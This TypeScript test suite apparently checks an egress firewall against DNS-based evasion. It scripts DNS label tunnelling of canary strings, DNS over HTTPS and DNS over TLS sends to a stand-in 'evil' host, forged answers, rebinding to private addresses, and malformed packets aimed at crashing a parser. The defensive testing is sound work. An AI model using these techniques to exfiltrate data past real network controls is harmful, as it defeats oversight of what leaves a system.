/** Rows 2, 3, 6–15, 17 and 18: what may be said in questions, and what answers may make of them. */
import t from "tap"
import type { Event } from "../../events/event.ts"
import { arrives, canary, denials, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"
import { allTimes, dropTo, flowTo, script, shown } from "./ways.ts"
import { asked } from "./wire.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false
const evil = "198.51.100.66"
const names = (events: readonly Event[]): Extract<Event, { kind: "name" }>[] =>
  events.filter((event) => event.kind === "name")

t.test("questions", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t, {
    capture: true,
    zone: {
      "doh.test": { a: [evil] },
      "flip-private.test": { a: ["198.51.100.10", "10.99.0.10"], rotate: true, ttl: 0 },
    },
  })
  const allow = ["allowed.test"]

  await t.test("row 2: a tunnel in the labels under an allowed wildcard", async (t) => {
    const tunnel = (word: string): string[] =>
      script(
        `for n in range(200): print(rcode(udp(question("%03d${word}-------.allowed.test" % n))))`,
      )
    const distinct = (word: string): number =>
      new Set(
        lab.evidence().flatMap(({ kind, text }) => {
          const name = text.toLowerCase()
          return kind === "name" && name.includes(word) ? [name] : []
        }),
      ).size
    const free = canary()
    await lab.run(tunnel(free))
    t.ok(await arrives(lab, free))
    t.equal(distinct(free), 200, "all arrive without a firewall")
    const caught = canary()
    const block = await guarded(lab, { mode: "block", allow: ["*.allowed.test"] }, tunnel(caught))
    await lab.seen(caught)
    t.ok(distinct(caught) <= 64, `${distinct(caught)} of 200 arrive in block mode`)
    const many = denials(block.events, ["name-budget-exceeded"]).length
    t.ok(many >= 130, `${many} are told`)
    const watched = canary()
    const audit = await guarded(lab, { mode: "audit", allow: ["*.allowed.test"] }, tunnel(watched))
    await arrives(lab, watched)
    t.equal(distinct(watched), 200, "all arrive in audit mode")
    const told = denials(audit.events, ["name-budget-exceeded"])
    t.ok(told.length >= 130, `${told.length} are told`)
    t.ok(told.every(({ enforced }) => enforced === false))
  })

  await t.test("row 2: thirty ordinary names under a wildcard pass", async (t) => {
    const { stdout } = await guarded(
      lab,
      { mode: "block", allow: ["*.allowed.test"] },
      script(
        `print([rcode(udp(question("cdn-%d.allowed.test" % n))) for n in range(30)].count(0))`,
      ),
    )
    t.equal(stdout, "30\n")
  })

  await t.test("row 3: odd types of an allowed name", async (t) => {
    const types = { TXT: 16, MX: 15, PTR: 12, NULL: 10, ANY: 255, HTTPS: 65, SVCB: 64, ODD: 65_280 }
    const all = Object.values(types)
    const ask = (word: string): string[] =>
      script(
        `for kind in ${JSON.stringify(all)}:`,
        `    m = udp(question("${word}.allowed.test", kind))`,
        `    print(kind, rcode(m), int.from_bytes(m[6:8], "big"))`,
      )
    const up = (word: string): number[] => [...new Set(asked(lab, word).map(({ type }) => type))]
    const free = canary()
    await lab.run(ask(free))
    await arrives(lab, free)
    t.strictSame(up(free), all, "all go up without a firewall")
    const caught = canary()
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow: ["*.allowed.test"] },
      ask(caught),
    )
    await lab.seen(caught)
    t.strictSame(up(caught), [16, 15, 12], "only what a build may need goes up")
    for (const kind of [10, 255, 65, 64, 65_280])
      t.match(stdout, `${kind} 0 0\n`, "nothing is there")
    const refused = denials(events, ["query-type-refused"])
    t.strictSame(
      refused.map((event) => event.kind === "name" && event.type),
      ["NULL", "ANY", "TYPE65280"],
      shown({ status: 0, stdout, stderr: "", events }),
    )
  })
  await threeTimes(t, lab, {
    name: "row 3: the address in a question for its name",
    command: (word) => [
      "dig",
      "+tries=1",
      "+time=2",
      "@203.0.113.53",
      "PTR",
      `${word}.in-addr.arpa`,
    ],
    allow,
    reasons: ["name-not-allowed"],
  })

  const framed = `frame = lambda m: struct.pack(">H", len(m)) + m\n`
  await allTimes(t, lab, { allow }, [
    {
      name: "row 6: over TCP, a byte at a time",
      lines: `${framed}m = frame(question(word.decode() + ".evil.test"))
tcp("203.0.113.53", 53, *[m[at:at+1] for at in range(len(m))], pause=0.002)`,
      told: (event) =>
        event.kind === "name" && event.verdict === "deny" && event.transport === "tcp",
    },
    {
      name: "row 6: over TCP, the second of two in one segment",
      lines: `${framed}tcp("203.0.113.53", 53, frame(question("allowed.test")) + frame(question(word.decode() + ".second.evil.test")), wait=2)`,
      told: (event) => event.kind === "name" && event.name.includes(".second.evil.test"),
    },
    {
      name: "row 6: over TCP, behind a message of no bytes",
      lines: `${framed}tcp("203.0.113.53", 53, b"\\0\\0", frame(question(word.decode() + ".third.evil.test")), wait=1, pause=0.1)`,
      told: null,
      noAudit: "what is no question ends the connection, in audit mode too",
      vacuous: "the lab's server takes no empty message",
    },
    {
      name: "row 8: the second of two questions",
      lines: `udp(question("allowed.test", counts=(2,0,0,0), tail=name(word.decode() + ".evil.test") + b"\\0\\1\\0\\1"), wait=1)`,
      told: null,
      noAudit: "it cannot be asked as it is: FORMERR",
    },
    {
      name: "row 11: DNS over TLS, 853/tcp",
      lines: `tcp("203.0.113.53", 853, word)`,
      told: flowTo(853, "address-not-allowed"),
    },
    {
      name: "row 11: DNS over QUIC, 853/udp",
      lines: `udp(word, port=853, wait=1)`,
      told: dropTo("203.0.113.53", 853),
    },
    {
      name: "row 11: DNSCrypt, 443/udp",
      lines: `udp(word, port=443, wait=1)`,
      told: dropTo("203.0.113.53", 443),
    },
    {
      name: "row 11: mDNS, 5353/udp",
      lines: `udp(question(word.decode() + ".local"), port=5353, wait=1)`,
      told: dropTo("203.0.113.53", 5353),
    },
    {
      name: "row 7: a forged answer teaches nothing",
      lines: `m = question("allowed.test", flags=0x8580, counts=(1,1,0,0), tail=b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\x0e\\x10\\0\\4" + socket.inet_aton("${evil}"))
for to in ("203.0.113.53", "203.0.113.66", "127.0.0.1"): udp(m, to=to, wait=0.3)
tcp("${evil}", 4447, word)`,
      // In audit mode the questions above have given names to the address.
      told: flowTo(4447, "address-not-allowed", "name-not-allowed"),
    },
    {
      name: "row 7: a forged answer as a way to carry bytes",
      lines: `udp(question("allowed.test", flags=0x8580, tail=word), wait=0.3)`,
      told: null,
      noAudit: "it is no question, and goes nowhere",
    },
  ])

  await t.test("row 8: two questions in one message are an error of form", async (t) => {
    const { stdout } = await guarded(
      lab,
      { mode: "block", allow },
      script(
        `print(rcode(udp(question("allowed.test", counts=(2,0,0,0), tail=name("evil.test") + b"\\0\\1\\0\\1"))))`,
      ),
    )
    t.equal(stdout, "1\n")
  })

  await t.test("rows 9 and 10: our questions are our own", async (t) => {
    const count = 40
    const ask = (word: string): string[] =>
      script(
        `option = struct.pack(">HH", 65001, 22) + b"${word}"`,
        `opt = b"\\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option`,
        `for n in range(${count}):`,
        `    print(rcode(udp(question("HOST-%d-WITH-A-NAME.ALLOWED.TEST" % n, id=0x4242, counts=(1,0,0,1), tail=opt))))`,
      )
    const free = canary()
    await lab.run(ask(free))
    t.ok(await arrives(lab, free), "options arrive without a firewall")
    t.equal(asked(lab, "-with-a-name").filter(({ id }) => id === 0x4242).length, count)
    const before = asked(lab, "-with-a-name").length
    const caught = canary()
    const { stdout } = await guarded(
      lab,
      { mode: "block", allow: ["*.allowed.test"], options: [] },
      ask(caught),
    )
    t.equal(stdout, "0\n".repeat(count))
    t.strictSame(await lab.seen(caught), [], "no option of the job's arrives")
    const ours = asked(lab, "-with-a-name").slice(before)
    t.equal(ours.length, count)
    t.ok(ours.filter(({ id }) => id === 0x4242).length <= 1, "nor its number")
    t.ok(new Set(ours.map(({ id }) => id)).size >= count - 2, "numbers differ")
    const ports = new Set(ours.map(({ sourcePort }) => sourcePort))
    t.ok(ports.size >= 4, `ports differ: ${ports.size} for ${count}`)
    t.ok(
      ours.every(({ name }) => name !== name.toUpperCase()),
      "nor its spelling",
    )
    t.ok(
      ours.some(({ name }) => name !== name.toLowerCase()),
      "which is drawn anew",
    )
  })

  const doh = (host: string, at: string, word: string): string[] => [
    ...["curl", "-sk", "-m", "4", "--resolve", `${host}:443:${at}`],
    ...["-H", "content-type: application/dns-message", "--data-binary", word],
    `https://${host}/dns-query`,
  ]
  await threeTimes(t, lab, {
    name: "row 12: DNS over HTTPS to a host that is not allowed",
    command: (word) => doh("doh.test", evil, word),
    allow,
    reasons: ["name-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 12: DNS over HTTPS to an address",
    command: (word) => ["curl", "-sk", "-m", "4", `https://203.0.113.53/dns-query?dns=${word}`],
    allow,
    reasons: ["address-not-allowed", "missing-server-name"],
  })
  await t.test("row 12: what remains: an allowed host may answer any question", async (t) => {
    const word = canary()
    const { events } = await guarded(
      lab,
      { mode: "block", allow },
      doh("allowed.test", "198.51.100.10", word),
    )
    t.ok(await arrives(lab, word), "a host rule does not look inside")
    const flow = events.find((event) => event.kind === "flow")
    const wanted = { verdict: "allow", opening: { serverName: "allowed.test" } }
    if (!t.match(flow, wanted)) t.comment(events.map((event) => JSON.stringify(event)).join("\n"))
    t.ok(flow?.kind === "flow" && flow.bytesSent > 0, "its bytes are counted")
  })

  await allTimes(t, lab, { allow: ["alias.test", "alias.test:4451"] }, [
    {
      name: "row 13: the target of an allowed alias, by its own name",
      lines: `udp(question("alias.test")); udp(question(word.decode() + ".evil.test"))`,
      told: (event) =>
        event.kind === "name" && event.verdict === "deny" && event.name.endsWith(".evil.test"),
    },
    {
      name: "row 13: the target of an allowed alias, under its own server name",
      lines: `udp(question("alias.test")); tcp("${evil}", 443, hello(server_name(b"evil.test"), word=word))`,
      told: flowTo(443, "name-not-allowed"),
    },
    {
      name: "row 13: the target of an allowed alias, at another port",
      lines: `udp(question("alias.test")); tcp("${evil}", 4452, word)`,
      told: flowTo(4452, "port-not-allowed"),
    },
  ])

  await t.test("row 14: names that lead to private addresses", async (t) => {
    const hosts = ["private.test", "metadata.test", "loopback.test", "mapped.test"]
    const ask = hosts.map((host) => `"${host}"`).join(",")
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow: hosts.flatMap((host) => [host, `${host}:80`]) },
      script(
        `for host in (${ask}):`,
        `    for kind in (1, 28): print(host, kind, int.from_bytes(udp(question(host, kind))[6:8], "big"))`,
        `    r = tcp("198.51.100.10", 80, b"GET /canaryprivate HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")`,
        `    print(host, (r or b"none")[:12])`,
        `    print(host, (tcp("198.51.100.10", 443, hello(server_name(host.encode()))) or b"none")[:1])`,
      ),
    )
    t.notMatch(stdout, /test (1|28) [1-9]/, stdout)
    t.notMatch(stdout, /HTTP\/1.1 200/, "nor dialled")
    t.strictSame(await lab.seen("canaryprivate"), [])
    for (const host of hosts) {
      t.ok(
        names(events).some(
          ({ name, verdict, reason }) =>
            name === host && verdict === "deny" && reason === "private-address",
        ),
        `${host}: the name is told`,
      )
    }
    const flows = denials(events, ["private-address"]).filter(({ kind }) => kind === "flow")
    if (!t.equal(flows.length, 8, "the flows are told")) {
      t.comment(shown({ status: 0, stdout, stderr: "", events }))
    }
  })
  await t.test("row 14: a name that may be private is", async (t) => {
    const { stdout, stderr } = await guarded(
      lab,
      { mode: "block", allow: ["private.test"], more: "resolve-private: [private.test]\n" },
      ["curl", "-sS", "-m", "5", "--cacert", lab.authorityFile, "https://private.test/"],
    )
    t.match(stdout, /hello from private.test/, stderr)
  })

  await t.test("row 15: an answer that changes between the check and the dialling", async (t) => {
    const word = canary()
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow: ["flip-private.test:80"], timeoutMs: 60_000 },
      script(
        `for n in range(8):`,
        `    udp(question("flip-private.test"))`,
        `    r = tcp("198.51.100.10", 80, b"GET /${word} HTTP/1.1\\r\\nHost: flip-private.test\\r\\n\\r\\n")`,
        `    print((r or b"none")[:15])`,
      ),
    )
    const records = await lab.seen(word)
    t.ok(records.length > 0, "what is public is reached")
    t.ok(
      records.every(({ at }) => !at.includes("10.99.0.10")),
      "what is private never is",
    )
    const dialled = events.flatMap((event) =>
      event.kind === "flow" && event.dialled !== undefined ? [event.dialled.address] : [],
    )
    t.strictSame([...new Set(dialled)], ["198.51.100.10"], stdout)
  })

  await threeTimes(t, lab, {
    name: "row 17: what a search list adds to a name",
    command: (word) => [
      ...["dig", "+tries=1", "+time=2", "+search", "+domain=evil.test", "@203.0.113.53"],
      word,
    ],
    allow,
    reasons: ["name-not-allowed"],
  })
  await t.test("row 17: a search list in the environment", async (t) => {
    const word = canary()
    const { events } = await guarded(
      lab,
      { mode: "block", allow, environment: { LOCALDOMAIN: "evil.test" } },
      ["getent", "hosts", word],
    )
    t.strictSame(await lab.seen(word), [])
    const told = names(events).filter(({ verdict }) => verdict === "deny")
    t.ok(
      told.some(({ name }) => name === `${word}.evil.test`),
      told.map(({ name }) => name).join(),
    )
  })

  await t.test("row 18: what may kill a parser", async (t) => {
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", allow },
      script(
        `head = lambda *counts: struct.pack(">HH4H", 9, 0x100, *counts)`,
        `bad = [head(0, 0, 0, 0), head(1, 0, 0, 0) + b"\\xc0\\x0c\\0\\1\\0\\1", head(1, 0, 0, 0) + b"\\xc0\\x0e\\xc0\\x0c\\0\\1\\0\\1",`,
        `  b"", b"\\0", head(65535, 65535, 65535, 65535), question("allowed.test")[:-3], head(1, 0, 0, 0) + b"\\x3f" + b"a" * 10,`,
        `  head(1, 0, 0, 0) + b"\\x3f" + b"a" * 63 + b"\\0\\0\\1\\0\\1", head(1, 0, 0, 0) + b"\\1a" * 200 + b"\\0\\0\\1\\0\\1", head(1, 0, 0, 0) + b"\\x80" * 40,`,
        `  question("allowed.test", counts=(1, 0, 0, 1), tail=b"\\0" + struct.pack(">HHIH", 41, 1232, 0, 65535)), os.urandom(1200)]`,
        `for m in bad: udp(m, wait=0.05)`,
        `frame = lambda m: struct.pack(">H", len(m)) + m`,
        `for m in (*bad, b"\\0" * 65535, question("allowed.test", tail=b"x" * 65000)): tcp("203.0.113.53", 53, frame(m), wait=0.05)`,
        `for n in range(3): tcp("203.0.113.53", 53, b"\\xff\\xff" + b"x" * 100, wait=0.05)`,
        `print(rcode(udp(question("allowed.test"))), rcode(udp(question("evil.test"))))`,
      ),
    )
    t.equal(stdout, "0 3\n", "an ordinary question is answered, and still judged")
    t.match(events.at(-1), { kind: "run-ended", lost: 0 })
  })
})
